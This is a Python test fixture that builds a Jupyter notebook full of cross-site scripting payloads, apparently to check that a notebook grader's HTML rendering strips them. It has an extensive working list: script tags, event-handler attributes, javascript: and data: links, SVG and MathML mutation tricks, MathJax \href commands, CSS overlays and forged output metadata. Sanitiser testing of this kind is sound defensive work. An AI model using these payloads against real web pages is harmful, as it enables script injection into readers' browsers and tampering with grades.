"""What a submission may carry to run script in the browser of who reads it.

Each payload of PAYLOADS names the element that nbconvert's own filters would put
into the page, as a CSS selector: the test that a payload is harmless also tests that
it was not. Those of OUTPUTS and FORGED go into a notebook's other places.
"""

import base64
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    "<script>alert(1)</script></svg>"
)
SVG64 = base64.b64encode(SVG.encode()).decode()
PAGE64 = base64.b64encode(b"<script>alert(1)</script>").decode()
DOT64 = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAA"
    "AABJRU5ErkJggg=="
)
FAR = "http://far.invalid/seen"

# name -> (Markdown or HTML, the selector of what must not reach the page)
PAYLOADS = {
    # elements
    "script": ("<script>alert(1)</script>", "script"),
    "script in capitals": ("<ScRiPt>alert(1)</sCrIpT>", "script"),
    "script from far": (f'<script src="{FAR}.js"></script>', "script"),
    "script unclosed": ("<script>alert(1)", "script"),
    "script of mathjax": (
        '<script type="math/tex">\\href{javascript:alert(1)}{x}</script>',
        "script",
    ),
    "iframe srcdoc": ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "iframe"),
    "iframe javascript": ('<iframe src="javascript:alert(1)"></iframe>', "iframe"),
    "object": (f'<object data="data:text/html;base64,{PAGE64}"></object>', "object"),
    "embed": (f'<embed src="data:image/svg+xml;base64,{SVG64}">', "embed"),
    "svg": (SVG, "svg"),
    "svg animation": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<text>x</text></a></svg>",
        "svg",
    ),
    "math": ('<math><a href="javascript:alert(1)">x</a></math>', "math"),
    "style element": (f"<style>@import '{FAR}.css'</style>", "style"),
    "link element": (f'<link rel="stylesheet" href="{FAR}.css">', "link"),
    "meta refresh": (f'<meta http-equiv="refresh" content="0;url={FAR}">', "meta"),
    "base": (f'<base href="{FAR}/">', "base"),
    "form": (f'<form action="{FAR}"><button>Full credit</button></form>', "form"),
    "input": ('<input autofocus onfocus="alert(1)">', "input"),
    "button": ('<button class="full-credit">Read on</button>', "button"),
    "textarea": ('<textarea class="comment"></textarea>', "textarea"),
    "video": ('<video><source onerror="alert(1)"></video>', "video, source"),
    "audio": ('<audio src="x" onerror="alert(1)"></audio>', "audio"),
    "marquee": ('<marquee onstart="alert(1)">x</marquee>', "marquee"),
    "template": ("<template><script>alert(1)</script></template>", "template"),
    "foreign content": (
        '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">'
        "</style></mglyph></table></mtext></math>",
        "math, style, [onerror]",
    ),
    "noscript": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "noscript",
    ),
    # event attributes
    "onerror": ('<img src="x" onerror="alert(1)">', "[onerror]"),
    "onerror bare": ("<img src=x onerror=alert(1)>", "[onerror]"),
    "onerror by slash": ('<div>\n<img/src="x"/onerror=alert(1)>\n</div>', "[onerror]"),
    "onclick": ('<p onclick="alert(1)">x</p>', "[onclick]"),
    "ontoggle": ('<details open ontoggle="alert(1)">x</details>', "[ontoggle]"),
    "onmouseover": ('<a onmouseover="alert(1)">x</a>', "[onmouseover]"),
    # addresses
    "javascript link": ("[x](javascript:alert(1))", "a[href^=javascript]"),
    "javascript in capitals": ('<a href="JaVaScRiPt:alert(1)">x</a>', "a[href*=alert]"),
    "javascript by entity": (
        '<a href="&#106;avascript&colon;alert(1)">x</a>',
        "a[href^=javascript]",
    ),
    "javascript by tab": ('<a href="java\tscript:alert(1)">x</a>', "a[href*=alert]"),
    "javascript after files/": (
        '<a href="files/javascript:alert(1)">x</a>',
        "a[href*=javascript]",
    ),
    "javascript by reference": ("[x]\n\n[x]: javascript:alert(1)", "a[href*=alert]"),
    "autolink": ("<javascript:alert(1)>", "a[href*=alert]"),
    "vbscript": ('<a href="vbscript:msgbox(1)">x</a>', "a[href^=vbscript]"),
    "page as data": (
        f'<a href="data:text/html;base64,{PAGE64}">x</a>',
        "a[href^=data]",
    ),
    "own page beside": ("[my notes](notes.html)", "a[href*=notes]"),
    "own page by path": ('<a href="/files/notes.html">x</a>', "a[href*=notes]"),
    "other server, no scheme": ('<a href="//far.invalid">x</a>', "a[href*=far]"),
    # pictures
    "picture from far": (f"![x]({FAR}.png)", "img[src*=far]"),
    "picture by srcset": (f'<img srcset="{FAR}.png 1x">', "[srcset]"),
    "svg as picture": (f'<img src="data:image/svg+xml;base64,{SVG64}">', "img[src]"),
    "page as picture": (f'<img src="data:text/html;base64,{PAGE64}">', "img[src]"),
    "picture map": ('<img src="x" usemap="#m">', "[usemap]"),
    # what formgrader's script and its libraries act on
    "tooltip of bootstrap": (
        '<a data-toggle="tooltip" data-html="true" title="<img src=x>">x</a>',
        "[data-toggle]",
    ),
    "live link": ('<a data-link="../../x">x</a>', "[data-link]"),
    "id of a score": ('<p id="w1-e1-check">x</p>', "[id]"),
    "id of a heading": ("# submission_id", "[id]"),
    "name": ('<a name="submission_id">x</a>', "[name]"),
    "class of a button": ('<span class="full-credit">x</span>', "[class]"),
    # looks
    "style over the page": (
        '<div style="position:fixed;top:0;left:0">x</div>',
        "[style*=position]",
    ),
    "style from far": (
        f'<p style="background:url({FAR}.png)">x</p>',
        "[style*=url]",
    ),
    "style by escape": ('<p style="color:\\75rl(x)">x</p>', "[style*=rl]"),
    "style moved up": (
        '<p style="color:red;margin-top:-900px">x</p>',
        "[style*='-900']",
    ),
}

# TeX that must stand as it was typed -> the command in it
TEX = {
    r"$\href{javascript:alert(1)}{x}$": r"\href",
    r"$$\url{javascript:alert(1)}$$": r"\url",
    r"$\unicode{x3c}$": r"\unicode",
    r"$\class{full-credit}{x}$": r"\class",
    r"$\style{position:fixed}{x}$": r"\style",
    r"$\cssId{submission_id}{x}$": r"\cssId",
    r"$\require{html}$": r"\require",
    r"$\html{<b>}$": r"\html",
    r"$\htmlData{link=x}{x}$": r"\htmlData",
    r"$\bbox[background:red]{x}$": r"\bbox",
    r"$\newcommand{\x}{y}$": r"\newcommand",
    r"$\def\frac#1#2{10}$": r"\def",
    r"$\eqref{x}$": r"\eqref",
    r"$\href {javascript:alert(1)} {x}$": r"\href",
    r"$x_{\href{javascript:alert(1)}{x}}$": r"\href",
    r"$\gdef\x{y}$": r"\gdef",
    r"$\DeclareMathOperator{\sin}{cos}$": r"\DeclareMathOperator",
    r"$\newenvironment{a}{b}{c}$": r"\newenvironment",
    r"$\data{x}{y}$": r"\data",
    r"\begin{align}\href{javascript:alert(1)}{x}\end{align}": r"\href",
    r"\\(\href{javascript:alert(1)}{x}\\)": r"\href",
    r"<p>$\hr&#101;f{javascript:alert(1)}{x}$</p>": r"\href",
    r"<p>$&#92;href{javascript:alert(1)}{x}$</p>": r"\href",
    r"<p>$\hr<!-- -->ef{javascript:alert(1)}{x}$</p>": r"\href",
}

# TeX that is drawn, or stands as typed, and brings nothing but its letters with it
DRAWN = [
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\text{&#60;img src=x onerror=alert(1)&#62;}$",
    r"$\text{&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;}$",
    r"$\mathrm{</math><script>alert(1)</script>}$",
    r"$\mbox{</mtext></math><svg onload=alert(1)>}$",
    r"$\hbox{a $\text{<script>alert(1)</script>}$ b}$",
    r"$\text{<mglyph><style><img src=x onerror=alert(1)></style>}$",
    r"$\verb|<script>alert(1)</script>|$",
    r"$\tag{<script>alert(1)</script>}$",
    r"$\operatorname{<b>}$",
    r"$<script>alert(1)</script>$",
    r"$\color{red;position:fixed}{x}$",
    r"$\color{red\" onload=\"alert(1)}{x}$",
    r"$\textcolor{url(http://far.invalid/seen.png)}{x}$",
    r"$\colorbox{url(http://far.invalid/seen.png)}{x}$",
    r"$\fcolorbox{red}{blue}{<b>}$",
    r"$\rule{9999em}{9999em}$",
    r"$\hspace{9999em}\kern-50em\hskip-50em\mspace{-999mu}$",
    r"$\raise 99em {x}\lower-99em {x}\moveleft 99em {x}$",
    r"$\llap{Score: 10}\rlap{Score: 10}\clap{x}\smash{x}$",
    r"$\Huge{\Huge{\Huge x}}$",
    r"$\above{999em}x$",
    r"$\genfrac{<}{>}{999em}{0}{a}{b}$",
    r"$\begin{array}{c\"onload=alert(1)}x\end{array}$",
    r"$\begin{script}alert(1)\end{script}$",
    r"\begin{script}alert(1)\end{script}",
    "$\ue0000\ue001$ \ue0000\ue001 \ue00099999\ue001",
    f'$x$ ![$"onerror=alert(1)>$](data:image/png;base64,{DOT64})',
    "$\"><script>alert(1)</script>$ <b title='&#xe000;0&#xe001;'>&#xe000;0&#xe001;</b>",
    "$javascript:alert(1)$ <a href='&#xe000;0&#xe001;'>x</a>",
    "$" + "{" * 500 + "x" + "}" * 500 + "$",
    "$" + r"\sqrt" * 500 + "$",
    "$" + r"\frac" * 500 + "$",
    "$" + "x_" * 500 + "$",
    "$" + r"\left(" * 400 + r"\right)" * 400 + "$",
    "$" + "x" * 20_000 + "$",
]

# name -> (the data of an output, its metadata, what must not be in the page)
OUTPUTS: dict[str, tuple[dict[str, Any], dict[str, Any], str]] = {
    "html": ({"text/html": "<img src=x onerror=alert(1)>"}, {}, "<img src="),
    "html script": ({"text/html": "<script>alert(1)</script>"}, {}, "<script>alert"),
    "html isolated": (
        {"text/html": "<script>alert(1)</script>"},
        {"text/html": {"isolated": True}},
        "<iframe",
    ),
    "javascript": ({"application/javascript": "alert(1)"}, {}, "alert(1)"),
    "svg": ({"image/svg+xml": SVG}, {}, "image/svg+xml;base64"),
    "markdown": ({"text/markdown": "[x](javascript:alert(1))"}, {}, 'href="java'),
    "latex": ({"text/latex": r"$\href{javascript:alert(1)}{x}$"}, {}, "<math"),
    "latex with html": ({"text/latex": "<script>alert(1)</script>"}, {}, "<script>a"),
    "latex with both": (
        {"text/latex": r"$\text{<script>alert(1)</script>}$"},
        {},
        "<script>a",
    ),
    "plain": ({"text/plain": "<script>alert(1)</script>"}, {}, "<script>alert"),
    "mermaid": ({"text/vnd.mermaid": "<script>alert(1)</script>"}, {}, "<script>a"),
    "pdf": ({"application/pdf": PAGE64}, {}, PAGE64),
    "unknown type": ({"x/<script>alert(1)</script>": "x"}, {}, "<script>alert"),
    "forged base64": ({"image/png": '"><script>alert(1)</script>'}, {}, "<script>a"),
    "svg called png": ({"image/png": SVG64}, {}, SVG64),
    "page called jpeg": ({"image/jpeg": PAGE64}, {}, PAGE64),
    "width": (
        {"image/png": DOT64},
        {"image/png": {"width": "1 onload=alert(1)"}},
        "onload=",
    ),
    "alt": (
        {"image/png": DOT64},
        {"image/png": {"alt": '"><script>alert(1)</script>'}},
        "<script>alert",
    ),
    "file name": (
        {"image/png": DOT64},
        {"filenames": {"image/png": f"{FAR}.png"}},
        "far.invalid",
    ),
    "widget": (
        {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>"}},
        {},
        'widget-view+json">',
    ),
}


def notebook() -> nbformat.NotebookNode:
    """Return a notebook with every payload, each in a cell of its own."""
    cells = [new_markdown_cell(text) for text, _ in PAYLOADS.values()]
    cells += [new_markdown_cell(text) for text in (*TEX, *DRAWN)]
    cells += [forged()]
    for name, (data, metadata, _) in OUTPUTS.items():
        cells.append(new_code_cell(f"# {name}", outputs=[shown(data, metadata)]))
    for text, _ in PAYLOADS.values():
        cells.append(new_code_cell(text, outputs=[shown({"text/html": text}, {})]))
        cells.append(new_code_cell("", outputs=[printed(text), failed(text)]))
    outputs = [shown({"text/latex": text}, {}) for text in (*TEX, *DRAWN)]
    cells.append(new_code_cell("", outputs=outputs))
    return new_notebook(cells=cells)


def shown(data: dict[str, Any], metadata: dict[str, Any]) -> nbformat.NotebookNode:
    return new_output("display_data", data=data, metadata=metadata)


def printed(text: str) -> nbformat.NotebookNode:
    return new_output("stream", name="stdout", text=f"\x1b[31m{text}\x1b[0m")


def failed(text: str) -> nbformat.NotebookNode:
    return new_output("error", ename=text, evalue=text, traceback=[text])


def forged() -> nbformat.NotebookNode:
    """Return a cell whose attachment and metadata carry markup."""
    cell = new_markdown_cell("![x](attachment:a.png)\n\n![y](attachment:missing.png)")
    cell.attachments = {"a.png": {"image/svg+xml": SVG64, "image/png": SVG64}}
    cell.metadata = nbformat.from_dict(
        {"tags": ['"><script>alert(1)</script>'], "alt": '"><script>alert(1)</script>'}
    )
    return cell
